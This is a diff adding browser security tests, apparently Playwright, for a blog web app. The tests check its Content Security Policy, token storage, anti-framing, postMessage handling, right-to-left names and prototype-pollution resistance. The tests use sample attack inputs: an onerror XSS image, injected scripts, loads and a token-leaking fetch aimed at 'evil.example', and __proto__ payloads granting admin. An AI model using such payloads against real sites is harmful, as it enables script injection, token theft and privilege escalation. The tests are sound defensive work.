@@ -1,0 +1,169 @@
+import { storageOf } from './support/gate.ts'
+import { expect, headerOf, passwordOf, quietPage, signIn, test } from './support/test.ts'
+
+/** ATTACKS-AND-FAULTS D13 to D20, as far as they are about a browser and are not told elsewhere (links, logout, redirects). */
+
+test('a script that got into the page is not run, however it got there', async ({ openAs, trouble }) => {
+  for (const directive of ['require-trusted-types-for', 'frame-src', 'connect-src', 'base-uri', 'form-action'])
+    trouble.expect(new RegExp(`^console error: CSP: ${directive} `))
+  trouble.tolerate(/^console error: (?!CSP)/) // Chromium's own words for the same
+  const safo = await openAs('Safo', '/home')
+  await expect(headerOf(safo)).toContainText('Bienvenida/o')
+  const refused = await safo.evaluate(async () => {
+    // on its own two feet: what DevTools runs is allowed more than what a page runs
+    await new Promise((later) => setTimeout(later))
+    Object.assign(window, { mark: (name: string) => Object.assign(window, { [name]: true }) })
+    const errors: string[] = []
+    const attempt = (name: string, what: () => unknown) => {
+      try {
+        what()
+      } catch {
+        errors.push(name)
+      }
+    }
+    attempt('innerHTML', () => {
+      document.body.innerHTML += '<img src=x onerror="mark(\'html\')">'
+    })
+    attempt('script text', () => {
+      const script = document.createElement('script')
+      script.textContent = "mark('text')"
+      document.body.append(script)
+    })
+    attempt('script address', () => {
+      const script = document.createElement('script')
+      script.src = 'https://evil.example/x.js'
+      document.body.append(script)
+    })
+    attempt('handler', () => document.createElement('img').setAttribute('onerror', "mark('handler')"))
+    attempt('eval', () => Reflect.get(window, 'eval')("mark('fromEval')"))
+    // what a parser without Trusted Types would have let through: nodes moved over from another document
+    const other = new DOMParser()
+    attempt('parser', () => other.parseFromString('<script>mark("parser")</script>', 'text/html'))
+    attempt('frame', () => {
+      const frame = document.createElement('iframe')
+      frame.src = 'https://evil.example/'
+      document.body.append(frame)
+    })
+    attempt('base', () => {
+      const base = document.createElement('base')
+      base.href = 'https://evil.example/'
+      document.head.append(base)
+    })
+    attempt('form', () => {
+      const form = document.createElement('form')
+      form.action = 'https://evil.example/'
+      document.body.append(form)
+      form.submit()
+    })
+    await fetch('https://evil.example/?token').catch(() => errors.push('fetch'))
+    return errors
+  })
+  expect(refused).toEqual(
+    expect.arrayContaining(['innerHTML', 'script text', 'script address', 'handler', 'eval', 'parser', 'fetch']),
+  )
+  const marks = await safo.evaluate(() =>
+    ['html', 'text', 'handler', 'fromEval', 'parser'].filter((name) => Reflect.has(window, name)),
+  )
+  expect(marks).toEqual([])
+  expect(await safo.evaluate(() => document.baseURI)).toBe(safo.url())
+})
+
+test('a page with an inline script in its HTML does not run it', async ({ visit, trouble }) => {
+  trouble.expect(/^console error: CSP: script-src-elem inline/, /^console error: .*Content Security Policy/)
+  const page = await visit('/register', {
+    before: (page) =>
+      page.route('**/register', async (route) => {
+        const answer = await route.fetch()
+        const html = (await answer.text()).replace('</body>', '<script>window.hacked = true</script></body>')
+        await route.fulfill({ response: answer, body: html })
+      }),
+  })
+  await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible()
+  expect(await page.evaluate(() => Reflect.has(window, 'hacked'))).toBe(false)
+})
+
+test('what there is to steal is the token of this tab alone, and it is in no address', async ({ house, visit }) => {
+  await house.person('Safo')
+  const asked: { url: string; referer: string | undefined }[] = []
+  const page = await visit('/home', {
+    before: async (page) =>
+      page.on('request', (request) => asked.push({ url: request.url(), referer: request.headers().referer })),
+  })
+  await signIn(page, 'Safo', passwordOf('Safo'))
+  await expect(headerOf(page)).toContainText('Bienvenida/o, Safo')
+  await headerOf(page).getByRole('link', { name: 'Blog', exact: true }).click()
+  await expect(page.getByText('No hay posts todavía. Sé el primero en crear uno!')).toBeVisible()
+  const { session, ...rest } = await storageOf(page)
+  expect(Object.keys(session)).toEqual(['auth_token'])
+  expect(rest).toEqual({ local: {}, cookies: '', caches: [], databases: [] })
+  expect(await page.evaluate(() => window.name)).toBe('')
+  expect(JSON.stringify(asked)).not.toContain(session.auth_token)
+  expect(JSON.stringify(asked)).not.toContain(passwordOf('Safo'))
+  expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then(({ length }) => length))).toBe(0)
+})
+
+test('the site cannot be framed by another one', async ({ house, browse, trouble }) => {
+  trouble.expect(/^foreign GET http:\/\/evil\.example\/$/)
+  trouble.tolerate(/^console error: (Refused to (display|frame)|Framing)/, /^failed GET \/home$/) // how Chromium says so
+  const page = await (await browse()).newPage()
+  await page.route('http://evil.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${house.url}/home"></iframe>` }),
+  )
+  await page.goto('http://evil.example/')
+  await expect.poll(() => page.frames().length).toBe(2)
+  const frame = page.frames()[1]
+  await expect.poll(() => frame?.url()).not.toBe('about:blank')
+  await frame?.waitForLoadState()
+  expect(await frame?.evaluate(() => document.getElementById('root') !== null).catch(() => false)).toBe(false)
+})
+
+test('a message from another window changes nothing', async ({ openAs }) => {
+  const safo = await openAs('Safo', '/home')
+  await expect(headerOf(safo)).toContainText('Bienvenida/o, Safo')
+  await safo.evaluate(() => {
+    for (const data of [{ type: 'out' }, { type: 'token', token: 'x' }, { type: 'ask' }, '{"type":"out"}', null])
+      window.postMessage(data, '*')
+  })
+  await headerOf(safo).getByRole('link', { name: 'Blog', exact: true }).click()
+  await expect(headerOf(safo)).toContainText('Bienvenida/o, Safo')
+})
+
+test('a name that is written from right to left turns nothing around it', async ({ house, openAs }) => {
+  const name = 'עומר'
+  const author = await house.person(name)
+  const post = await author.writes({ title: 'עומר ו-3 ספרים' })
+  await author.call('POST', '/auth/heartbeat')
+  const safo = await openAs('Safo', '/blog')
+  const byline = safo.getByRole('article').getByText(`Por ${name}`)
+  await expect(byline.locator('bdi')).toHaveText(name)
+  await headerOf(safo)
+    .getByRole('button', { name: /online/ })
+    .click()
+  await expect(headerOf(safo).locator('bdi').getByText(name)).toBeVisible()
+  await safo.goto(`/blog/${post.id}`)
+  await expect(safo.getByRole('main').getByText(`Por ${name}`).locator('bdi')).toHaveText(name)
+})
+
+test('an answer or an address that names __proto__ gives nobody rights', async ({ house, visit, trouble }) => {
+  const { token } = await house.person('Safo')
+  const page = await visit(quietPage)
+  await page.evaluate((token) => sessionStorage.setItem('auth_token', token), token)
+  await page.route('**/api/auth/me', async (route) => {
+    const answer = await route.fetch()
+    const body = (await answer.text()).replace(
+      /^\{/,
+      '{"__proto__":{"role":"admin","isAdmin":true},"constructor":{"prototype":{"role":"admin"}},',
+    )
+    await route.fulfill({ response: answer, body })
+  })
+  trouble.expect('422 GET /api/posts') // no category
+  await page.goto('/admin?__proto__[role]=admin&constructor[prototype][role]=admin#__proto__')
+  await expect(page.getByText('Admin access required.', { exact: true })).toBeVisible()
+  await expect(headerOf(page).getByRole('link', { name: 'Admin', exact: true })).toHaveCount(0)
+  expect(await page.evaluate(() => [Reflect.get({}, 'role'), Reflect.get({}, 'isAdmin')])).toEqual([
+    undefined,
+    undefined,
+  ])
+  await page.goto('/blog?categoria=__proto__')
+  await expect(page.getByRole('main').getByRole('alert').first()).toBeVisible()
+})
